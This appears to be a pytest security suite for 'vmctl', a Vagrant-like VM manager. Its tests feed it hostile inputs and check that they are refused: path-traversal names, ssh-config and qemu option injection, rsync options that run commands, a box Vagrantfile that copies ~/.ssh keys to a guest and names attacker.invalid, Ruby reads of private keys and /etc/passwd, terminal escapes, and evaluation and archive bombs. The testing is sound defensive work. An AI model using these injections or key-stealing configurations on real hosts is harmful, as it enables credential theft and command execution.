"""A Vagrantfile or a box from a stranger, driving the real `vmctl` command (subprocesses):
for each class of the security review, a canary that must survive or must not appear.

No VM is needed: each attack is stopped before a machine would be made (or acts on state
files only). The tests that need a booted machine are in tests/e2e/test_security.py.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from vmctl import untrusted

VMCTL = [sys.executable, "-m", "vmctl"]


class Runner:
    """Runs vmctl in PROJECT with an isolated VMCTL_HOME and HOME (with a fake secret)."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.project = root / "project"
        self.project.mkdir()
        self.home = root / "home"
        (self.home / ".ssh").mkdir(parents=True)
        self.secret = "SECRET-7f3a9c-private-key-material"
        (self.home / ".ssh" / "id_ed25519").write_text(self.secret + "\n")
        (self.home / ".ssh" / "id_ed25519.pub").write_text("ssh-ed25519 AAAA public@key\n")
        self.vmctl_home = root / "vmctl-home"
        self.env = {k: v for k, v in os.environ.items() if not k.startswith(("VMCTL_", "VAGRANT_"))}
        self.env["VAGRANT_SERVER_URL"] = "http://127.0.0.1:9"  # never the internet's registry
        self.env.update(VMCTL_HOME=str(self.vmctl_home), HOME=str(self.home), NO_COLOR="1",
                        COLUMNS="200", VMCTL_EVAL_SECONDS="3")

    def vagrantfile(self, text: str, folder: Path | None = None) -> Path:
        path = (folder or self.project) / "Vagrantfile"
        path.write_text(textwrap.dedent(text).lstrip())
        return path

    def __call__(self, *args: str, env: dict[str, str] | None = None, timeout: float = 60,
                 cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*VMCTL, *args], cwd=cwd or self.project, env={**self.env, **(env or {})},
            capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL, check=False,
        )  # fmt: skip


@pytest.fixture
def vm(tmp_path: Path) -> Runner:
    return Runner(tmp_path)


def one_error(proc: subprocess.CompletedProcess[str], *words: str) -> str:
    """The single `error:` line of a failed command (exit 1, no traceback), holding WORDS."""
    assert proc.returncode == 1, (proc.returncode, proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr
    errors = [line for line in proc.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1, proc.stderr
    for word in words:
        assert word in errors[0], proc.stderr
    return errors[0]


def tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): p.read_text() for p in sorted(folder.rglob("*")) if p.is_file()}


# -- 1. names become paths --------------------------------------------------------------------

@pytest.mark.parametrize("name", ["../../../victim", "/tmp/victim", "a/b", "..", ".vmctl", "x\nProxyCommand touch /tmp/c",
                                  "*", "-rf", "web[1]", 'q"uote'])
def test_machine_names_that_would_be_paths_are_refused(vm: Runner, name: str) -> None:
    victim = vm.root / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me")
    vm.vagrantfile(f'Vagrant.configure("2") {{ |c| c.vm.box = "t/b"; c.vm.define {json.dumps(name)} }}\n')
    for command in (["up"], ["destroy", "-f"], ["status"], ["ssh-config"]):
        one_error(vm(*command), "invalid machine name")
    assert tree(victim) == {"precious.txt": "keep me"}
    assert not (vm.project / ".vmctl").exists()


def test_the_home_folder_as_a_machine_name(vm: Runner) -> None:
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "t/b"; c.vm.define Dir.home }\n')
    one_error(vm("destroy", "-f"), "invalid machine name")
    assert (vm.home / ".ssh" / "id_ed25519").read_text().startswith(vm.secret)


@pytest.mark.parametrize("link", [".vmctl", ".vmctl/machines", ".vmctl/machines/default"])
def test_state_folder_shipped_as_a_link_is_refused(vm: Runner, link: str) -> None:
    victim = vm.root / "victim"
    (victim / "default").mkdir(parents=True)
    (victim / "default" / "state.json").write_text("{}")
    (victim / "machines" / "default").mkdir(parents=True)
    (victim / "precious.txt").write_text("keep me")
    before = tree(victim)
    target = vm.project / link
    target.parent.mkdir(parents=True, exist_ok=True)
    target.symlink_to(victim)
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "t/b" }\n')
    for command in (["destroy", "-f"], ["up"], ["status"]):
        one_error(vm(*command), "symbolic link")
    assert tree(victim) == before


def shipped_state(vm: Runner, **fields: object) -> Path:
    folder = vm.project / ".vmctl" / "machines" / "default"
    folder.mkdir(parents=True)
    machine_home = vm.vmctl_home / "machines" / "aaaaaaaaaaaa"
    state = {"id": "aaaaaaaaaaaa", "domain": "vmctl-other-default-aaaaaa", "uri": "qemu:///embed?root=/nowhere",
             "disk": str(machine_home / "disk.qcow2"), "console_log": str(machine_home / "console.log"),
             "ssh_port": 2222, "ssh_user": "vagrant", "phase": "created", **fields}
    (folder / "state.json").write_text(json.dumps(state))
    return folder


def test_state_shipped_with_the_project_is_not_trusted(vm: Runner) -> None:
    """A state.json that this host's vmctl did not write names another machine's folder:
    destroy removes the shipped state files and nothing it names."""
    folder = shipped_state(vm)
    (folder / "notes.txt").write_text("not vmctl's")
    (folder / "private_key").write_text("a key that came with the repository")
    machine_home = vm.vmctl_home / "machines" / "aaaaaaaaaaaa"
    machine_home.mkdir(parents=True)
    (machine_home / "disk.qcow2").write_text("another project's disk")
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "t/b" }\n')
    status = vm("status", "--json")
    assert status.returncode == 0, status.stderr
    assert status.stdout and json.loads(status.stdout)["machines"][0]["state"] == "not_created"
    proc = vm("destroy", "-f")
    assert proc.returncode == 0, proc.stderr
    assert (machine_home / "disk.qcow2").read_text() == "another project's disk"
    assert sorted(p.name for p in folder.iterdir()) == ["notes.txt"]


@pytest.mark.parametrize("bad", [{"id": "../../../victim"}, {"disk": "/VICTIM/precious.txt"},
                                 {"domain": "../other project's domain"}, {"console_log": "/VICTIM/x"},
                                 {"disks": [{"role": "extra", "name": "x", "path": "/VICTIM/precious.txt"}]}])
def test_state_with_foreign_paths_is_refused(vm: Runner, bad: dict[str, Any]) -> None:
    victim = vm.root / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me")
    shipped_state(vm, **json.loads(json.dumps(bad).replace("/VICTIM", str(victim))))
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "t/b" }\n')
    one_error(vm("destroy", "-f"), "not in the expected shape")
    assert tree(victim) == {"precious.txt": "keep me"}


def test_state_file_shipped_as_a_link_is_refused(vm: Runner) -> None:
    folder = vm.project / ".vmctl" / "machines" / "default"
    folder.mkdir(parents=True)
    (folder / "state.json").symlink_to(vm.home / ".ssh" / "id_ed25519")
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "t/b" }\n')
    proc = vm("status")
    one_error(proc, "symbolic link")
    assert vm.secret not in proc.stderr + proc.stdout


# -- 2. rsync arguments -----------------------------------------------------------------------

@pytest.mark.parametrize("args", [
    ["--remove-source-files"], ["--log-file=/tmp/x"], ["--log-file", "/tmp/x"], ["--write-batch=/tmp/b"],
    ["--only-write-batch=/tmp/b"], ["-e", "sh -c 'touch /tmp/c'"], ["--rsh=touch /tmp/c"], ["--files-from=/etc/passwd"],
    ["--password-file=/tmp/p"], ["--exclude-from=/etc/shadow"], ["--filter=merge /etc/shadow"], ["-avze", "x"],
    ["--daemon"], ["--config=/tmp/c"], ["/etc/"], ["--unknown-option"],
])
def test_rsync_args_that_act_on_the_host_are_refused(vm: Runner, args: list[str]) -> None:
    vm.vagrantfile(f'''
        Vagrant.configure("2") do |c|
          c.vm.box = "t/b"
          c.vm.synced_folder ".", "/vagrant", type: "rsync", rsync__args: {json.dumps(args)}
        end
    ''')
    one_error(vm("validate"), "synced folder /vagrant", "rsync")


@pytest.mark.parametrize("args", [
    ["--verbose", "--archive", "--delete", "-z", "--copy-links"],  # Vagrant's defaults
    ["-avz", "--chmod=Du=rwx,Dg=rx,Fu=rw,Fg=r", "--rsync-path=sudo rsync", "--exclude", ".git/"],
    ["--archive", "--no-owner", "--no-group", "--filter=- *.pyc", "--info=progress2"],
])
def test_rsync_args_that_shape_the_copy_are_allowed(vm: Runner, args: list[str]) -> None:
    vm.vagrantfile(f'''
        Vagrant.configure("2") do |c|
          c.vm.box = "t/b"
          c.vm.synced_folder ".", "/vagrant", type: "rsync", rsync__args: {json.dumps(args)}
        end
    ''')
    proc = vm("validate", "--json")
    assert proc.returncode == 0, proc.stderr
    folder = json.loads(proc.stdout)["machines"][0]["synced_folders"][0]
    assert folder["rsync__args"] == args


# -- 3. a box's own Vagrantfile -------------------------------------------------------------------

EVIL_BOX_VAGRANTFILE = """
Vagrant.configure("2") do |config|
  config.ssh.username = "core"
  config.vm.synced_folder "~/.ssh", "/stolen", type: "rsync"
  config.vm.synced_folder ".", "/vagrant", rsync__args: ["--verbose", "--archive"]
  config.vm.network "forwarded_port", guest: 22, host: 2022, host_ip: "0.0.0.0"
  config.vm.network "forwarded_port", guest: 80, host: 8080
  config.vm.provision "file", source: "~/.ssh/id_ed25519", destination: "/tmp/key"
  config.vm.provision "shell", inline: "echo from the box"
  config.vm.box_url = "http://attacker.invalid/x.box"
  config.trigger.before :up do |t|
    t.run = {inline: "touch /tmp/box-canary"}
  end
  config.vm.provider :libvirt do |libvirt|
    libvirt.kernel = "/etc/shadow"
    libvirt.initrd = File.join(File.dirname(__FILE__), "initrd.img")
    libvirt.uri = "qemu+ssh://attacker.invalid/system"
    libvirt.driver = "kvm"
    libvirt.memory = 768
  end
end
"""


def install_box(vm: Runner, box_make: Callable[..., Path], vagrantfile: str, name: str = "evil/box") -> None:
    path = box_make(vagrantfile=vagrantfile, files={"initrd.img": b"initrd"})
    proc = vm("box", "add", "--name", name, str(path))
    assert proc.returncode == 0, proc.stderr


def test_a_box_vagrantfile_gets_only_what_a_box_may_set(vm: Runner, box_make: Callable[..., Path]) -> None:
    install_box(vm, box_make, EVIL_BOX_VAGRANTFILE)
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "evil/box" }\n')
    proc = vm("validate", "--json")
    assert proc.returncode == 0, proc.stderr
    m = json.loads(proc.stdout)["machines"][0]
    # What a box legitimately sets takes effect...
    assert m["ssh"]["username"] == "core"
    assert m["memory"] == 768
    assert m["libvirt"]["initrd"].endswith("/initrd.img")
    assert [p["guest"] for p in m["forwarded_ports"]] == [80]
    assert [p.get("inline") for p in m["provisioners"]] == ["echo from the box"]
    # ...and nothing that reaches the host: no host folder, key, kernel, libvirt host,
    # host command, host-side rsync arguments or forward off loopback.
    assert [f["guest"] for f in m["synced_folders"]] == ["/vagrant"]
    assert m["synced_folders"][0]["rsync__args"] is None
    assert m["libvirt"]["kernel"] is None and m["libvirt"]["uri"] is None and m["libvirt"]["driver"] is None
    assert m["box_url"] is None
    assert m["triggers"] == [] or all(t["run_inline"] is None for t in m["triggers"])
    warnings = [line for line in json.loads(proc.stdout)["warnings"] if "the Vagrantfile of box evil/box" in line]
    assert len(warnings) == 8, warnings  # all but the driver: kvm falls back to vmctl's own choice


def test_the_project_may_still_ask_for_what_a_box_may_not(vm: Runner, box_make: Callable[..., Path]) -> None:
    install_box(vm, box_make, EVIL_BOX_VAGRANTFILE)
    vm.vagrantfile('''
        Vagrant.configure("2") do |c|
          c.vm.box = "evil/box"
          c.vm.network "forwarded_port", guest: 22, host: 2022, host_ip: "0.0.0.0"
          c.vm.provider :libvirt do |lv|
            lv.driver = "qemu"
          end
        end
    ''')
    proc = vm("validate", "--json")
    assert proc.returncode == 0, proc.stderr
    m = json.loads(proc.stdout)["machines"][0]
    assert {(p["guest"], p["host_ip"]) for p in m["forwarded_ports"]} == {(22, "0.0.0.0"), (80, "127.0.0.1")}
    assert m["libvirt"]["driver"] == "qemu"
    assert any("other computers can reach it" in w for w in json.loads(proc.stdout)["warnings"])


def test_a_box_vagrantfile_cannot_read_host_secrets(vm: Runner, box_make: Callable[..., Path]) -> None:
    install_box(vm, box_make, 'Vagrant.configure("2") { |c| c.vm.hostname = File.read(Dir.home + "/.ssh/id_ed25519") }\n')
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "evil/box" }\n')
    proc = vm("validate")
    one_error(proc, "read policy")
    assert vm.secret not in proc.stdout + proc.stderr


def test_a_box_cannot_redefine_the_projects_helpers(vm: Runner, box_make: Callable[..., Path]) -> None:
    install_box(vm, box_make, 'def folder_for(x)\n  "/"\nend\nFOLDER = "/"\nVagrant.configure("2") { |c| }\n')
    (vm.project / "data").mkdir()
    vm.vagrantfile('''
        FOLDER = "data"
        def folder_for(x)
          "data"
        end
        Vagrant.configure("2") do |c|
          c.vm.box = "evil/box"
          c.vm.define "a"
          c.vm.define "b" do |b|
            b.vm.synced_folder folder_for(1), "/one"
            b.vm.synced_folder FOLDER, "/two"
          end
        end
    ''')
    proc = vm("validate", "--json")
    assert proc.returncode == 0, proc.stderr
    b = json.loads(proc.stdout)["machines"][1]
    assert {f["guest"]: f["host"] for f in b["synced_folders"]}["/one"] == str(vm.project / "data")
    assert {f["guest"]: f["host"] for f in b["synced_folders"]}["/two"] == str(vm.project / "data")


# -- 4. ssh-config injection --------------------------------------------------------------------

def test_ssh_config_values_cannot_add_lines_or_patterns() -> None:
    for bad in ("core\n  ProxyCommand touch /tmp/c", "a\rb", 'a"b', "x\0y"):
        with pytest.raises(ValueError):
            untrusted.ssh_config_value(bad)
    for pattern in ("*", "web?", "!x", "a,b"):
        with pytest.raises(ValueError):
            untrusted.ssh_config_value(pattern)
    assert untrusted.ssh_config_value("/path with space/key") == '"/path with space/key"'
    assert untrusted.ssh_config_value("node-1") == "node-1"


def test_ssh_username_with_a_line_break_is_refused(vm: Runner) -> None:
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "t/b"; c.ssh.username = "core\\nProxyCommand touch /tmp/x" }\n')
    one_error(vm("validate"), "config.ssh.username")


def test_ssh_config_of_a_project_in_a_folder_with_spaces(tmp_path: Path) -> None:
    from vmctl.ssh import Endpoint, config_block

    folder = tmp_path / "my project"
    endpoint = Endpoint(host="127.0.0.1", port=2200, user="vagrant", alias="vmctl-abc",
                        known_hosts=folder / "known_hosts", keys=())
    block = config_block("default", endpoint, folder / "private_key")
    assert f'UserKnownHostsFile "{folder}/known_hosts"' in block
    assert f'IdentityFile "{folder}/private_key"' in block
    assert len(block.splitlines()) == 11


# -- 5 and 11. reads of host secrets, require and load ------------------------------------------

@pytest.mark.parametrize("read", [
    'File.read("~/.ssh/id_ed25519")', 'File.read(Dir.home + "/.ssh/id_ed25519")',
    'IO.readlines("~/.ssh/id_ed25519").join', 'File.open("~/.ssh/id_ed25519") { |f| f.read }',
    'YAML.load_file("~/.ssh/id_ed25519").to_s', 'File.read("secret-link")', 'File.read("/proc/self/environ")',
    'File.read("/etc/passwd")', 'Dir.glob(Dir.home + "/.ssh/*").map { |f| File.read(f) }.join',
])
def test_a_vagrantfile_cannot_read_secrets(vm: Runner, box_server, read: str) -> None:
    (vm.project / "secret-link").symlink_to(vm.home / ".ssh" / "id_ed25519")
    url = box_server.url("box/")
    vm.vagrantfile(f'''
        Vagrant.configure("2") do |c|
          c.vm.box = "t/b"
          c.vm.box_url = "{url}" + ({read} rescue "refused")
        end
    ''')
    proc = vm("up", timeout=120)
    assert proc.returncode == 1
    assert box_server.requests, proc.stderr  # the box was asked for (and is not there)...
    seen = json.dumps(box_server.requests)
    assert vm.secret not in seen  # ...but never with the secret in it
    assert "refused" in seen
    assert "root:x:0:0" not in seen


def test_a_refused_read_says_how_to_allow_it(vm: Runner) -> None:
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "t/b"; c.vm.hostname = File.read("~/.ssh/id_ed25519") }\n')
    proc = vm("validate")
    error = one_error(proc, "read policy", "VMCTL_READ_PATHS")
    assert vm.secret not in proc.stderr and "id_ed25519" in error


def test_public_keys_and_allowed_paths_can_be_read(vm: Runner) -> None:
    shared = vm.root / "shared"
    shared.mkdir()
    (shared / "settings.yml").write_text("box: shared/box\n")
    vm.vagrantfile('''
        key = File.read("~/.ssh/id_ed25519.pub").split[1]
        settings = YAML.load_file(ENV["SHARED"] + "/settings.yml")
        Vagrant.configure("2") do |c|
          c.vm.box = settings["box"]
          c.vm.hostname = key.downcase
        end
    ''')
    one_error(vm("validate", env={"SHARED": str(shared)}), "read policy")
    proc = vm("validate", "--json", env={"SHARED": str(shared), "VMCTL_READ_PATHS": f"/nonexistent:{shared}"})
    assert proc.returncode == 0, proc.stderr
    m = json.loads(proc.stdout)["machines"][0]
    assert (m["box"], m["hostname"]) == ("shared/box", "aaaa")


def test_proc_is_never_a_file_even_when_allowed(vm: Runner) -> None:
    vm.vagrantfile('Vagrant.configure("2") { |c| c.vm.box = "t/b"; c.vm.hostname = File.read("/proc/self/environ") }\n')
    one_error(vm("validate", env={"VMCTL_READ_PATHS": "/"}), "read policy")


@pytest.mark.parametrize("line", ['require "/etc/passwd"', 'load "/etc/passwd"', 'require_relative "../../../../../etc/passwd"',
                                  'load "secret-link"'])
def test_require_and_load_of_host_files_never_show_their_contents(vm: Runner, line: str) -> None:
    (vm.project / "secret-link").symlink_to(vm.home / ".ssh" / "id_ed25519")
    vm.vagrantfile(f'{line}\nVagrant.configure("2") {{ |c| c.vm.box = "t/b" }}\n')
    proc = vm("validate")
    one_error(proc)
    assert "root:" not in proc.stderr and vm.secret not in proc.stderr


def test_environment_overlay_cannot_widen_the_read_policy(vm: Runner) -> None:
    vm.vagrantfile('ENV["VMCTL_READ_PATHS"] = "/"\nVagrant.configure("2") { |c| c.vm.hostname = File.read("~/.ssh/id_ed25519") }\n')
    one_error(vm("validate"), "read policy")


# -- 6. bounds that bound: evaluation bombs ------------------------------------------------------

BOMBS = {
    "inspect-shared": "a = [1]\n60.times { a = [a, a] }\nx = a.inspect",
    "json-shared": "a = [1]\n60.times { a = [a, a] }\nx = JSON.generate(a)",
    "join-shared": "a = ['x']\n60.times { a = [a, a] }\nx = a.join(',')",
    "flatten-shared": "a = [1]\n60.times { a = [a, a] }\nx = a.flatten",
    "equal-shared": "a = [1]\nb = [1]\n60.times { a = [a, a]; b = [b, b] }\nx = (a == b)",
    "sort-shared": "a = [1]\n40.times { a = [a, a] }\nx = [a, a, a].sort",
    "hash-printing": "h = {k: 1}\n60.times { h = {a: h, b: h} }\nputs h",
    "hash-to-s": "h = {k: 1}\n60.times { h = {a: h, b: h} }\nx = h.to_s",
    "uniq-quadratic": "x = (1..200000).map { |i| [i % 7, [i]] }.uniq",
    "array-minus": "a = (1..200000).map { |i| [i] }\nx = a - a.reverse",
    "regex-backtracking": "x = ('a' * 40 + '!') =~ /(a+)+$/",
    "regex-nested-alternation": "x = ('ab' * 30 + 'c') =~ /(a|ab|b)*$/",
    "glob-root": 'x = Dir.glob("/**/*").size',
    "glob-links": 'x = Dir.glob("**/*").size',
    "percent-literal": "x = " + "%q(" * 40000,  # unterminated: the parser's recovery is quadratic
    "long-version": 'Vagrant.configure("2") { |c| c.vm.box = "t/b"; c.vm.box_version = ">= " + "1" * 900000 + "!" }',
    "memory": "x = (1..5000).map { |i| 'x' * 999999 }",
    "string-doubling": "s = 'x'\n40.times { s = s + s }",
    "busy-loop": "i = 0\nwhile true\n  i += 1\nend",
}


@pytest.mark.parametrize("case", sorted(BOMBS))
def test_evaluation_bombs_stay_within_time_and_memory(vm: Runner, case: str) -> None:
    """Each bomb ends with one clear error within the time bound (3 s here, set by
    VMCTL_EVAL_SECONDS) plus the child's margin, and under the memory bound."""
    if case == "glob-links":
        for i in range(4):
            (vm.project / f"loop{i}").symlink_to(".")
    vm.vagrantfile(BOMBS[case] + "\n")
    wrapper = (
        "import resource, subprocess, sys, time\n"
        "t = time.monotonic()\n"
        "p = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "print(time.monotonic() - t, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, p.returncode)\n"
        "sys.stderr.write(p.stderr)\n"
    )
    proc = subprocess.run([sys.executable, "-c", wrapper, *VMCTL, "validate"], cwd=vm.project, env=vm.env,
                          capture_output=True, text=True, timeout=60)
    seconds, peak_kib, status = proc.stdout.split()
    assert float(seconds) < 3 + 5 + 4, (case, seconds, proc.stderr)
    assert int(peak_kib) < 1200 * 1024, (case, peak_kib)
    assert "Traceback" not in proc.stderr
    if case in ("glob-root", "glob-links"):
        assert status == "0", proc.stderr  # bounded and quick, not an error
    else:
        assert status == "1" and proc.stderr.count("error: ") == 1, proc.stderr


def test_fork_bound_helper_reports_each_limit() -> None:
    from vmctl.vagrantfile.sandbox import run_bounded
    from vmctl.vagrantfile.values import LimitError

    assert run_bounded(lambda: 6 * 7, seconds=1, what="x") == 42

    def spin() -> None:
        while True:
            pass

    def hog() -> list[bytes]:
        return [bytes(1 << 20) for _ in range(10_000)]

    def fail() -> None:
        raise KeyError("a KeyError from the child")

    start = time.monotonic()
    with pytest.raises(LimitError, match="CPU time|longer than"):
        run_bounded(spin, seconds=1, what="x")
    assert time.monotonic() - start < 8
    with pytest.raises(LimitError, match="memory"):
        run_bounded(hog, seconds=5, memory_bytes=128 << 20, what="x")
    with pytest.raises(KeyError, match="from the child"):
        run_bounded(fail, seconds=1, what="x")


# -- 7 and 8. box and catalog bombs, catalogs naming local files -----------------------------------

def test_a_box_with_a_huge_metadata_json_is_refused_quickly(vm: Runner, box_make: Callable[..., Path]) -> None:
    path = box_make(metadata=b'{"provider": "libvirt", "format": "qcow2", "virtual_size": 1, "x": "' + b"a" * (8 << 20) + b'"}')
    start = time.monotonic()
    one_error(vm("box", "add", "--name", "bomb/meta", str(path)), "metadata.json")
    assert time.monotonic() - start < 15
    assert not list((vm.vmctl_home / "boxes").glob("bomb*"))


def test_a_box_that_expands_far_beyond_its_size_is_refused(vm: Runner, tmp_path: Path) -> None:
    import gzip
    import io
    import tarfile

    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", compresslevel=1) as gz, tarfile.open(fileobj=gz, mode="w|") as tar:
        meta = json.dumps({"provider": "libvirt", "format": "qcow2", "virtual_size": 1}).encode()
        info = tarfile.TarInfo("box.img")
        info.size = 1 << 30  # 1 GiB of a non-zero byte: compresses about 230 times
        chunk = b"\x01" * (1 << 20)

        class Ones(io.RawIOBase):
            left = info.size

            def readinto(self, b: bytearray) -> int:  # type: ignore[override]
                n = min(len(b), self.left, len(chunk))
                b[:n] = chunk[:n]
                self.left -= n
                return n

        tar.addfile(info, Ones())
        info = tarfile.TarInfo("metadata.json")
        info.size = len(meta)
        tar.addfile(info, io.BytesIO(meta))
    box = tmp_path / "bomb.box"
    box.write_bytes(buf.getvalue())
    assert box.stat().st_size < 8 << 20
    start = time.monotonic()
    one_error(vm("box", "add", "--name", "bomb/expand", str(box), timeout=180), "unpacks to more than")
    # A bound, not a benchmark: the refusal comes long before 1 GiB is written out
    # (30 s failed under load 4-10 on this 2-core host, 41-55 s, main included).
    assert time.monotonic() - start < 90
    assert not list((vm.vmctl_home / "boxes").glob("bomb*"))


def test_a_box_with_too_many_files_is_refused(vm: Runner, box_make: Callable[..., Path]) -> None:
    path = box_make(files={f"f/{i}": b"" for i in range(10_050)})
    one_error(vm("box", "add", "--name", "bomb/files", str(path)), "more than 10000 files")
    assert not list((vm.vmctl_home / "boxes").glob("bomb*"))


@pytest.mark.parametrize("target", ["file:///dev/zero", "file:///etc/passwd", "/dev/zero", "/etc/passwd"])
def test_a_catalog_from_the_network_cannot_name_local_files(vm: Runner, box_server, target: str) -> None:
    """A file:// URL is refused; a path is a path on the catalog's own server."""
    url = box_server.put("evil.json", json.dumps({
        "name": "evil/box", "versions": [{"version": "1.0.0", "providers": [{"name": "libvirt", "url": target}]}],
    }).encode(), content_type="application/json")
    proc = vm("box", "add", url, timeout=30)
    if target.startswith("file:"):
        one_error(proc, "not an http(s) URL")
    else:
        one_error(proc, "not found", box_server.url(target))
    assert not list((vm.vmctl_home / "boxes").glob("evil*"))


def test_a_local_device_is_not_a_box(vm: Runner) -> None:
    one_error(vm("box", "add", "--name", "x/zero", "/dev/zero", timeout=30), "not a regular file")


# -- 9. addresses ------------------------------------------------------------------------------

@pytest.mark.parametrize("host_ip", ["127.0.0.1,guestfwd=tcp:10.0.2.100:1-cmd:touch /tmp/c", "127.0.0.1:80",
                                     "localhost", "tftp=/", ""])
def test_forwarded_port_host_ip_must_be_an_address(vm: Runner, host_ip: str) -> None:
    vm.vagrantfile(f'''
        Vagrant.configure("2") do |c|
          c.vm.box = "t/b"
          c.vm.network "forwarded_port", guest: 80, host: 8080, host_ip: {json.dumps(host_ip)}
        end
    ''')
    proc = vm("validate", "--json")
    if host_ip == "":
        assert proc.returncode == 0 and json.loads(proc.stdout)["machines"][0]["forwarded_ports"][0]["host_ip"] == "127.0.0.1"
    else:
        one_error(vm("validate"), "is not an IP address")


def test_qemu_option_strings_are_checked_where_they_are_made() -> None:
    from vmctl.domain import Forward, hostfwd_rules

    assert hostfwd_rules((Forward("::1", 8080, 80),)) == "hostfwd=tcp:[::1]:8080-:80"
    for bad in (Forward("127.0.0.1,guestfwd=x", 1, 2), Forward("", 1, 2), Forward("127.0.0.1", 1, 2, "tcp,x")):
        with pytest.raises(ValueError):
            hostfwd_rules((bad,))


# -- 10. terminal escapes ------------------------------------------------------------------------

def test_vagrantfile_output_cannot_drive_the_terminal(vm: Runner) -> None:
    vm.vagrantfile('puts "\\e]52;c;ZXZpbA==\\a copied"\nputs "\\e[2K\\rerased"\nVagrant.configure("2") { |c| c.vm.box = "t/b" }\n')
    proc = vm("validate")
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stderr and "\x07" not in proc.stderr
    assert "\\x1b]52;c;ZXZpbA==\\x07 copied" in proc.stderr


def test_visible_keeps_text_and_shows_controls() -> None:
    assert untrusted.visible("plain text\twith tab\nand a line") == "plain text\twith tab\nand a line"
    assert untrusted.visible("a\x1b[31mb\x9bc") == "a\\x1b[31mb\\x9bc"
    assert untrusted.terminal_safe("\x1b[32mok\x1b[0m \x1b]0;title\x07") == "\x1b[32mok\x1b[0m \\x1b]0;title\\x07"


# -- a fuzz target for the bounds ---------------------------------------------------------------

def test_fuzz_evaluation_stays_within_its_bounds(tmp_path: Path) -> None:
    """Random compositions of growth steps and expensive builtins: whatever the program,
    evaluation ends within the time bound (plus the margin) and the memory bound, with
    settings or one ConfigError; never a hang, a crash or another exception."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from vmctl.errors import ConfigError
    from vmctl.vagrantfile.interpreter import Limits
    from vmctl.vagrantfile.loader import evaluate_project
    from vmctl.vagrantfile.model import ProjectConfig
    from vmctl.vagrantfile.sandbox import run_bounded

    seeds = ["[1]", "['ab']", "{k: 1}", "'xy'", "(1..50).to_a", "[[1, 'a'], {b: 2}]"]
    growth = ["x = [x, x]", "x = {a: x, b: x}", "x = x * 2", "x = [x] * 3", "x = x.to_s * 2", "x = [x, x.inspect]"]
    finals = ["x.inspect", "JSON.generate(x)", "x.to_s", "[x].flatten", "x == x.dup", "[x, x].uniq",
              "[x].sort_by(&:to_s)", "x.to_s =~ /(a+)+b/", "x.hash", "[x] - [x]", "puts x", "x.to_s.length"]
    vagrantfile = tmp_path / "Vagrantfile"

    @settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
    @given(st.sampled_from(seeds), st.lists(st.sampled_from(growth), min_size=1, max_size=3),
           st.integers(1, 64), st.sampled_from(finals))
    def run(seed: str, steps: list[str], times: int, final: str) -> None:
        vagrantfile.write_text(f"x = {seed}\n{times}.times {{ {'; '.join(steps)} }}\ny = {final}\n")
        start = time.monotonic()
        try:
            result = run_bounded(lambda: evaluate_project(vagrantfile, env={}, limits=Limits(seconds=1)),
                                 seconds=1, memory_bytes=256 << 20, what="Vagrantfile")
            assert isinstance(result, ProjectConfig)
        except ConfigError:
            pass
        assert time.monotonic() - start < 1 + 5 + 2

    run()
